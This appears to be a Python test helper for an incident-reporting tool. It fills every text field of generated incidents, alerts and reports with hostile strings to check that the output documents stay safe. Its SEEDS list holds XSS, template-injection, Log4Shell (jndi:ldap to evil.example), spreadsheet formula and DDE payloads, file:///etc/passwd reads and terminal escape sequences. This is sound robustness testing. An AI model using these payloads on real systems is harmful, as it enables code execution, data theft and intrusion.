"""Incidents with a hostile text in every field that people or logs fill: script, formula, field, terminal, template, markup,
right-to-left, zero-width, NUL, long; and the papers about them."""

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from atttcli.cli.context import App
from atttcli.clock import DAY, HOUR, VIETNAM, from_micros, parse_moment
from atttcli.inventory import Inventory
from atttcli.journal.journal import Journal
from atttcli.profile import load_profile
from atttcli.reports.paper import Paper
from atttcli.reports.papers.catalog import CATALOG, PaperKind, build_paper
from atttcli.reports.papers.desk import Ask, Desk
from atttcli.reports.papers.period import parse_period
from tests.support.casework import SetClock, make_app

SEEDS = (
    "<script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", '"><iframe src="https://evil.example/"></iframe>', "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>", "<!--", "]]>", "<?php system('id') ?>", "&#60;script&#62;", "<meta http-equiv=refresh>",
    "{{ 7919*7919 }}", "{% for x in range(9**9) %}{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id') }}", "{number}",
    "%s%n%x", "${jndi:ldap://evil.example/a}", "#{7919*7919}", "#read(\"/etc/passwd\")", "#import \"@preview/x:0.1.0\"",
    "[x](http://evil.example)", "![x](https://evil.example/p.png)", "[x]: http://evil.example", "<http://evil.example>",
    "http://evil.example/a?b=c", "HTTPS://EVIL.example", "www.evil.example", "a@evil.example", "\\\\evil.example\\share",
    "file:///etc/passwd", "# x", "- x", "> x", "1. x", "```", "~~~", "    code", "| a | b |", "|---|", "---", "===", "**b** `c`",
    "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1-1", "＝1", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example\")",
    "INCLUDETEXT http://evil.example", "DDEAUTO c:\\\\windows", " PAGE ", "<w:p/>", "<w:instrText>", "{ HYPERLINK }",
    "\x00\x01\x08\x0b\x0c\x1b[2J\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\ufffe\uffff", "\x7f", "\u202egnp.exe",
    "\u2066\u2069", "\u200b\ufeff", "\U000e0041", "\u2028\u2029\x85", "\r\nSet-Cookie: x", "\ue000", "x" * 3_000, "ộ" * 2_000,
    "e" + "\u0301" * 400, "://" * 500, "/JavaScript (app.alert(1))", "/URI (http://evil.example)", ">> /OpenAction <<", "", "\n\n",
)  # fmt: skip
# Fields of the record that hold free text; the rest are codes, numbers and times.
TEXTS = (
    "summary", "scope", "lessons", "proposals", "harm", "expected", "requests", "spread", "vulnerability", "operating_system",
    "purpose", "machines", "accounts", "contact_name", "contact_phone", "reporter_name", "reporter_address", "measures",
)  # fmt: skip
PERIOD_FROM = parse_moment("2026-01-01 00:30")


class Hostile:
    """Texts drawn from a seed: every seed text alone at first, then pairs of them."""

    def __init__(self, seed: int) -> None:
        self._drawn = random.Random(seed)
        self._at = 0

    def text(self) -> str:
        """The next one, as the database can hold it."""
        self._at += 1
        if self._at <= len(SEEDS):
            return SEEDS[self._at - 1]
        first, second = self._drawn.choice(SEEDS), self._drawn.choice(SEEDS)
        return first + self._drawn.choice(("", " ", "\n", "x")) + second


def hostile_app(folder: Path, count: int, seed: int = 20261123) -> App:
    """A workspace of 2026 with so many incidents; agencies and systems have hostile names too."""
    clock = SetClock(PERIOD_FROM)
    app = make_app(folder, clock, "vn-2017")
    journal, drawn = Journal(app.store, "lan", clock), Hostile(seed)
    changes = [
        {"kind": "agency", "code": one.code, "fields": {"name": drawn.text() or "x"}}
        for one in app.organisation.agencies[:60]
    ]
    changes += [
        {"kind": "system", "code": one.code, "fields": {"name": drawn.text() or "x"}}
        for one in app.organisation.systems[:8]
    ]
    agencies = [one.code for one in app.organisation.agencies]
    systems = [one.code for one in app.organisation.systems]
    types = [one.code for one in load_profile("vn-2017").incident_types]
    journal.append("agency.changed", "bac-kan", {"changes": changes})
    app.forget_place()
    with journal.transaction():
        for at in range(1, count + 1):
            clock.at = PERIOD_FROM + at * (360 * DAY) // count
            _open(journal, drawn, at, agencies, systems, types)
        _others(journal, drawn)
    clock.at = parse_moment("2027-01-02 08:00")
    return app


def _open(journal: Journal, drawn: Hostile, at: int, agencies: list[str], systems: list[str], types: list[str]) -> None:
    number = f"SC-2026-{at:04d}"
    now = journal.clock.now()
    fields: dict[str, Any] = {name: drawn.text() for name in TEXTS}
    fields |= {
        "handled_by": ["self", "others"][: 1 + at % 2], "supporters": [drawn.text()], "foreign_supporters": [drawn.text()],
        "occurred": now - HOUR, "damage": at,
    }  # fmt: skip
    alert = {
        "number": f"CB-2026-{at:04d}", "title": drawn.text(), "rule_id": drawn.text(), "kind": "network", "severity": 3,
        "agency": "", "system": "", "first_seen": now, "last_seen": now, "count": 1, "source_path": drawn.text(), "pack": "",
        "observables": [["url", drawn.text(), "c2"], ["file-name", drawn.text(), drawn.text()]], "tags": [drawn.text()],
        "why": [], "detail": {},
    }  # fmt: skip
    body = {
        "number": number, "title": drawn.text() or "x", "profile": "vn-2017", "organisation": "bac-kan", "opened": now,
        "category": types[at % len(types)], "severity": "M3", "owner": drawn.text(), "detected": now, "fields": fields,
        "agencies": [agencies[at % len(agencies)]], "systems": [systems[at % len(systems)]], "alerts": [alert],
    }  # fmt: skip
    journal.append("incident.opened", number, body)
    journal.append("incident.noted", number, {"text": drawn.text()})
    exhibit = {"incident": number, "sha256": f"{at:064x}", "name": drawn.text(), "size": 1, "source": drawn.text()}
    journal.append(
        "evidence.added", f"CC-2026-{at:04d}", {**exhibit, "number": f"CC-2026-{at:04d}", "note": drawn.text()}
    )


def _others(journal: Journal, drawn: Hostile) -> None:
    """Trainings, contracts, drills and papers have texts too."""
    for at in range(1, 9):
        training = {"title": drawn.text(), "kind": "course", "held": "2026-05-05", "days": 1, "attendees": 3}
        journal.append(
            "training.held", f"TH-2026-{at:04d}", training | {"provider": drawn.text(), "place": drawn.text()}
        )
        contract = {
            "title": drawn.text(),
            "provider": drawn.text(),
            "valid_from": "2026-01-01",
            "valid_until": "2026-12-31",
        }
        journal.append("contract.added", f"HD-2026-{at:04d}", contract)
        held = {
            "drill": f"DT-{at}", "number": f"DT-2026-{at:04d}", "scenario": "x", "name": {"vi": drawn.text()}, "team": drawn.text(),
            "format": drawn.text(), "started": PERIOD_FROM, "ended": PERIOD_FROM + HOUR, "active": HOUR, "total": 50.0,
            "valid": True,
        }  # fmt: skip
        journal.append("drill.held", f"DT-{at}", held)


def desk_of(app: App) -> Desk:
    """Where the papers are drafted."""
    day = from_micros(app.clock.now(), VIETNAM).date().isoformat()
    inventory = Inventory(app.organisation, (), (), day)
    return Desk(Journal(app.store, "lan", app.clock), inventory, load_profile("vn-2017"), app.clock.now())


def kinds() -> list[tuple[PaperKind, str]]:
    """Papers about an incident, in each of their kinds."""
    return [(one, variant) for one in CATALOG if one.about == "incident" for variant in one.variants or ("",)]


def incident_papers(app: App, numbers: list[str], seed: int = 7) -> Iterator[Paper]:
    """One paper an incident, each kind in its turn; what the drafter says is hostile too."""
    desk, drawn, every = desk_of(app), Hostile(seed), kinds()
    for at, number in enumerate(numbers):
        kind, variant = every[at % len(every)]
        texts = {name: drawn.text() for name in ("summary", "proposals", "plan", "content", "measures")}
        yield build_paper(kind, desk, Ask(number, requests=(drawn.text(), drawn.text()), variant=variant, texts=texts))


def period_papers(app: App, months: int, seed: int = 9) -> Iterator[Paper]:
    """Weekly, periodic, consolidated and member papers; `months` of the year, then the whole of it."""
    desk, drawn = desk_of(app), Hostile(seed)
    spans = [parse_period(f"2026-{month:02d}") for month in range(1, months + 1)] + [parse_period("2026")]
    for kind in (one for one in CATALOG if one.about == "period"):
        for span in spans:
            keys = ("plan", "shortcomings", "proposals", "directives", "four_layers", "member")
            yield build_paper(kind, desk, Ask(period=span, texts={key: drawn.text() for key in keys}))
    names = ("leader", "leader_position", "mobile", "fax", "about", "contact_name", "staff", "people.1.1", "website")
    member = next(one for one in CATALOG if one.name == "member")
    for _turn in range(1 + months):
        yield build_paper(member, desk, Ask(texts={key: drawn.text() for key in names}))


def numbers_of(app: App) -> list[str]:
    """All incidents."""
    return [row[0] for row in app.store.rows("SELECT number FROM incident ORDER BY number")]
